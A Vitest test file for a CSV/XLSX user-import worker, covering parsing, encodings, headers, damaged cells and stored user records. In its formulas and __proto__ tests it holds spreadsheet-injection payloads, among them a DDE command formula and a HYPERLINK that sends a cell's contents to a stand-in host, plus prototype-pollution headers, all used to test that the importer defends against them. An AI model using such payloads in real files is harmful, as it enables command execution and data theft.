/** The sample files through the real flow, against what a good reader concludes. */
import { describe, expect, test } from 'vitest';
import { reviewOf } from '../src/lib/worker/review';
import {
	createDevice,
	fixture,
	outcomes,
	read,
	replan,
	save,
	viewAll,
	type Device
} from './device';
import type { OpenDraft } from '../src/lib/worker/open-draft';

const none = { create: 0, update: 0, unchanged: 0, skip: 0, delete: 0, error: 0 };
const byLine = async (device: Device, open: OpenDraft) =>
	Object.fromEntries(await outcomes(device, open));

async function storedUsers({ context }: Device) {
	const pages = await context.db.userPages.toArray();
	return pages.flatMap(({ users }) => users);
}

async function readNew(name: string) {
	const device = await createDevice();
	return { device, open: await read(device, fixture(name)) };
}

describe('users-13.csv', () => {
	test('H5, R2: 24 create, with no error and no warning', async () => {
		const { device, open } = await readNew('users-13.csv');
		expect(open.summary.actions).toEqual({ ...none, create: 24 });
		const views = await viewAll(device, open);
		const loud = views.flatMap(({ issues }) => issues).filter(({ level }) => level !== 'note');
		expect(loud).toEqual([]);
		expect(open.summary.warnings).toBe(0);
		expect(open.summary.fileIssues).toEqual([]);
	});

	test('F1: two names were composed, and it is said', async () => {
		const { device, open } = await readNew('users-13.csv');
		const tidied = (await viewAll(device, open))
			.filter(({ issues }) => issues.some(({ code }) => code === 'tidied'))
			.map(({ username }) => username);
		expect(tidied).toEqual(['nguyen.thuyduong', 'tran.quocbao']);
	});

	test('P2, P8, W2: chosen again after the save', async () => {
		const { device, open } = await readNew('users-13.csv');
		await save(device, open);
		const again = await read(device, fixture('users-13.csv'));
		expect(again.summary.actions).toEqual({ ...none, skip: 24 });
		replan(device, again, { uploadType: 'add_and_update', existingDetails: 'override' });
		expect(again.summary.actions).toEqual({ ...none, unchanged: 24 });
		replan(device, again, { existingPassword: 'update' });
		expect(again.summary.actions).toEqual({ ...none, unchanged: 21, update: 3 });
		const review = await reviewOf(again, device.context, false);
		expect(review.sameFileSavedAt).toBe((await device.context.db.uploads.toArray())[0]?.savedAt);
	});

	test('every user is stored as the file says', async () => {
		const { device, open } = await readNew('users-13.csv');
		await save(device, open);
		const users = await storedUsers(device);
		expect(users).toHaveLength(24);
		expect(users.find(({ username }) => username === 'gideon.achterberg')).toMatchObject({
			clientId: 'ST-0032',
			title: 'Prof',
			firstName: 'Gideon',
			lastName: 'Achterberg',
			email: 'gideon.achterberg@staff.northwick.example',
			phone: '+447700900122',
			registrations: {
				[device.examId]: {
					role: 'invigilator',
					eligible: true,
					venue: 'Harbour Hall',
					bookingStatus: 'Booked'
				}
			}
		});
		const composed = users.find(({ username }) => username === 'tran.quocbao');
		expect(composed?.lastName).toBe('Tr\u1ea7n');
	});
});

describe('ragged.csv', () => {
	test('R4, R5: lines and errors', async () => {
		const { device, open } = await readNew('ragged.csv');
		const created = [2, 6, 9, 12, 16, 17, 18, 19, 20, 21];
		expect(await byLine(device, open)).toEqual({
			...Object.fromEntries(created.map((line) => [line, 'create'])),
			3: 'error ragged_row',
			4: 'error ragged_row',
			22: 'error unclosed_quote'
		});
	});

	test('R6: ghost rows and blank lines are counted apart', async () => {
		const { open } = await readNew('ragged.csv');
		expect([open.draft.ghostRows, open.draft.blankLines]).toEqual([2, 3]);
	});

	test('R5: quotes inside an unquoted cell are read as they stand', async () => {
		const { device, open } = await readNew('ragged.csv');
		const hugo = (await viewAll(device, open)).find(({ line }) => line === 17);
		expect(hugo?.name).toBe('Hugo Prat "the elder"');
	});
});

describe('vendor-16.csv', () => {
	test('H5, R6: 40 create, 600 ghost rows, three known extra columns', async () => {
		const { device, open } = await readNew('vendor-16.csv');
		expect(open.summary.actions).toEqual({ ...none, create: 40 });
		expect(open.draft.ghostRows).toBe(600);
		const review = await reviewOf(open, device.context, false);
		const extra = review.file.columns.filter(({ binding }) => binding === 'extra');
		expect(extra.map(({ header }) => header)).toEqual([
			'Special Arrangement',
			'Reason for Special Arrangement',
			'Authentication Method'
		]);
		expect(review.fileIssues.find(({ code }) => code === 'columns_not_used')?.params).toEqual({
			columns: 'Special Arrangement, Reason for Special Arrangement, Authentication Method',
			count: 3
		});
	});

	test('F8, F12: 40 phones without a country are one message for the file', async () => {
		const { open } = await readNew('vendor-16.csv');
		expect(open.summary.fileIssues).toEqual([
			{ code: 'phone_without_country', level: 'warning', field: 'phone', params: { rows: 40 } }
		]);
		expect(open.summary.warnings).toBe(0);
	});

	test('F4, F10: titles in capitals and venues with a space at the end', async () => {
		const { device, open } = await readNew('vendor-16.csv');
		await save(device, open);
		const users = await storedUsers(device);
		expect(new Set(users.map(({ title }) => title))).toEqual(new Set(['Mr', 'Ms']));
		const venues = users.map(({ registrations }) => registrations[device.examId]?.venue);
		expect(new Set(venues)).toEqual(new Set(['Melbourne', 'Harbour Hall', 'Riverside Centre']));
	});

	test('H2: cells of columns that are not used are never saved', async () => {
		const { device, open } = await readNew('vendor-16.csv');
		await save(device, open);
		const { userPages, changePages, uploads } = device.context.db;
		const saved = JSON.stringify([
			await userPages.toArray(),
			await changePages.toArray(),
			await uploads.toArray()
		]);
		expect(saved).toContain('callumfairweather100');
		expect(saved).not.toContain('quiet room');
		expect(saved).not.toContain('Simple');
	});
});

describe('proto.csv', () => {
	const byHand = [
		'clientId',
		'username',
		'firstName',
		'lastName',
		'email',
		null,
		null,
		null,
		null,
		null
	] as const;

	test('H1, R8: ten columns, of which two are asked about', async () => {
		const { device, open } = await readNew('proto.csv');
		const review = await reviewOf(open, device.context, false);
		expect(review.file.columns.map(({ header }) => header)).toEqual([
			'Client ID',
			'Username',
			'First Name',
			'Last Name',
			'Email',
			'__proto__',
			'constructor',
			'Email',
			'toString',
			'hasOwnProperty'
		]);
		const asked = review.file.columns.filter(({ binding }) => binding === 'asked');
		expect(asked.map(({ header }) => header)).toEqual(['Email', 'Email']);
		expect(review.saveHeld).toBe('columns_unanswered');
	});

	test('R8: no column loses its samples to another', async () => {
		const { open } = await readNew('proto.csv');
		const samples = open.draft.columns.map((column) => column.samples[0]);
		expect(samples.slice(5)).toEqual([
			'proto-0',
			'ctor-0',
			'second0@harbourline.example',
			'ts-0',
			'__proto__'
		]);
	});

	test('H1: with the first Email column, 6 create with its emails', async () => {
		const device = await createDevice();
		const open = await read(device, fixture('proto.csv'), {}, byHand);
		expect(open.summary.actions).toEqual({ ...none, create: 6 });
		await save(device, open);
		const emails = (await storedUsers(device)).map(({ email }) => email);
		expect(emails[0]).toBe('aoife.brennan@northwick.example');
		expect(emails.some((email) => email.startsWith('second'))).toBe(false);
	});
});

describe('formulas.csv', () => {
	test('F2, V6: 10 create, every name stored as it stands', async () => {
		const { device, open } = await readNew('formulas.csv');
		expect(open.summary.actions).toEqual({ ...none, create: 10 });
		await save(device, open);
		const users = await storedUsers(device);
		expect(users.map(({ firstName }) => firstName)).toEqual([
			'=1+1',
			'+Bo',
			'-Cas',
			'@Dee',
			'Eli',
			"'Abd al-Noor",
			'=HYPERLINK("https://mirror.example/?"&A2,"open")',
			"=cmd|' /C calc'!A0",
			'Ivy',
			'Jo'
		]);
		expect(users.slice(8).map(({ lastName }) => lastName)).toEqual(['@SUM(A1:A9)', '-2+3+Kay']);
	});
});

describe.each(['excel-semicolon-1252.csv', 'excel-semicolon-1252-sep.csv'])('%s', (name) => {
	const first = name.includes('sep') ? 3 : 2;

	test('R2, R3: 12 create, by semicolon and a legacy encoding shown with sample names', async () => {
		const { device, open } = await readNew(name);
		expect(open.summary.actions).toEqual({ ...none, create: 12 });
		const { file } = await reviewOf(open, device.context, false);
		expect([file.separator, file.encoding, file.origin.encodingBy]).toEqual([
			';',
			'windows-1252',
			'detected'
		]);
		expect(file.origin.letterNames).toHaveLength(3);
		for (const text of file.origin.letterNames) expect(text).toMatch(/[äöüßéáñ]/i);
	});

	test('R4, F10: lines, and a venue with a semicolon', async () => {
		const { device, open } = await readNew(name);
		const views = await viewAll(device, open);
		expect(views.map(({ line }) => line)).toEqual(
			Array.from({ length: 12 }, (_, at) => first + at)
		);
		const unknown = views.filter(({ issues }) =>
			issues.some(({ code }) => code === 'venue_unknown')
		);
		expect(unknown.map(({ line }) => line)).toEqual([first + 2]);
		await save(device, open);
		const users = await storedUsers(device);
		const registration = users.map(({ registrations }) => registrations[device.examId]);
		expect(registration[2]?.venue).toBe('Harbour Hall; Saal 2');
		expect(registration[3]?.bookingStatus).toBe('Not Booked');
		expect(users.every(({ clientId }) => clientId.startsWith('0'))).toBe(true);
	});
});

describe('unicode-text-utf16', () => {
	test('R2, R3: 15 create each, equal to each other', async () => {
		const read16 = async (name: string) => {
			const { device, open } = await readNew(name);
			expect(open.summary.actions).toEqual({ ...none, create: 15 });
			await save(device, open);
			return (await storedUsers(device)).map(({ username, firstName, lastName, email }) => [
				username,
				firstName,
				lastName,
				email
			]);
		};
		expect(await read16('unicode-text-utf16le.txt')).toEqual(
			await read16('unicode-text-utf16be.txt')
		);
	});
});

describe('headers of other systems', () => {
	const fieldsOf = ({ draft }: OpenDraft) => draft.columns.map(({ field }) => field);

	test('H6: headers-moodle.csv', async () => {
		const { open } = await readNew('headers-moodle.csv');
		expect(fieldsOf(open)).toEqual([
			'username',
			'firstName',
			'lastName',
			'email',
			'phone',
			'clientId'
		]);
		expect(open.summary.actions).toEqual({ ...none, create: 10 });
	});

	test('H2, H6: headers-canvas.csv', async () => {
		const { device, open } = await readNew('headers-canvas.csv');
		expect(fieldsOf(open)).toEqual([
			'clientId',
			'username',
			'firstName',
			'lastName',
			'email',
			null
		]);
		const { fileIssues } = await reviewOf(open, device.context, false);
		const unused = fileIssues.filter(({ code }) => code === 'columns_not_used');
		expect(unused.map(({ params }) => params)).toEqual([{ columns: 'status', count: 1 }]);
		expect(open.summary.actions).toEqual({ ...none, create: 10 });
	});

	test('H1, H2, W2: headers-google.csv, with no Username column', async () => {
		const { device, open } = await readNew('headers-google.csv');
		expect(fieldsOf(open).filter((field) => field !== null)).toEqual([
			'firstName',
			'lastName',
			'email',
			'password',
			'clientId'
		]);
		expect(open.draft.columns.filter(({ binding }) => binding === 'unknown')).toHaveLength(3);
		expect(open.summary.actions).toEqual({ ...none, error: 10 });
		const { fileIssues } = await reviewOf(open, device.context, false);
		expect(fileIssues.filter(({ code }) => code === 'columns_missing')).toMatchObject([
			{ params: { columns: 'Username' } }
		]);
	});
});

describe('candidates.xlsx', () => {
	test('R1, R4, F2: rows of a sheet, by their numbers in it, and what Excel changed', async () => {
		const { device, open } = await readNew('candidates.xlsx');
		expect(await byLine(device, open)).toEqual({
			4: 'create',
			5: 'create',
			6: 'error date_damage',
			7: 'error number_damage',
			8: 'create',
			10: 'create',
			11: 'error error_value'
		});
		await save(device, open);
		const users = await storedUsers(device);
		expect(users.map(({ clientId }) => clientId)).toEqual([
			'00000012',
			'00000013',
			'00000017',
			'00000018'
		]);
		expect(users[2]?.registrations[device.examId]?.venue).toBe('Riverside Centre');
	});
});

describe('damage.csv', () => {
	test('F1, F2: 12 create, 6 errors', async () => {
		const { device, open } = await readNew('damage.csv');
		const created = [2, 3, 4, 9, 10, 11, 12, 13, 14, 16, 17, 18];
		expect(await byLine(device, open)).toEqual({
			...Object.fromEntries(created.map((line) => [line, 'create'])),
			5: 'error number_damage',
			6: 'error number_damage',
			7: 'error error_value',
			8: 'error error_value',
			15: 'error control_character',
			19: 'error error_value'
		});
	});

	test('F2, F8: warnings of lost zeros and of a phone without a country', async () => {
		const { device, open } = await readNew('damage.csv');
		const warned = (await viewAll(device, open)).flatMap(({ line, issues }) =>
			issues.filter(({ level }) => level === 'warning').map(({ code }) => `${line} ${code}`)
		);
		expect(warned).toEqual(['9 zeros_lost', '17 phone_without_country']);
		expect(open.summary.warnings).toBe(2);
	});

	test('F1, F2, F4–F6, F8: what is stored', async () => {
		const { device, open } = await readNew('damage.csv');
		await save(device, open);
		const users = new Map((await storedUsers(device)).map((user) => [user.username, user]));
		expect(users.get('vera.lindholm')?.clientId).toBe('00000012');
		expect(users.get('paul.oduya')).toMatchObject({
			clientId: '00000013',
			email: 'paul.oduya@damage.example',
			phone: '+447700900302'
		});
		expect(users.get('ida.rasmussen')?.email).toBe('ida.rasmussen@damage.example');
		expect(users.get('goran.babic')).toMatchObject({
			clientId: '00000020',
			firstName: 'Goran',
			lastName: 'Babi\u0107'
		});
		expect(users.get('zoe.renard')?.firstName).toBe(users.get('zoe.renard2')?.firstName);
		expect(users.get('zoe.renard')?.lastName).toBe(users.get('zoe.renard2')?.lastName);
		expect(users.get('mira.kovacs')).toMatchObject({
			firstName: 'Mira',
			lastName: 'Kov\u00e1cs Nagy',
			phone: '+447700900313'
		});
		expect(users.get('dara.sok')).toMatchObject({ title: 'Mr', phone: '+447700900315' });
		expect(users.get('noor.elsayed')?.firstName).toContain('\u200c');
	});
});
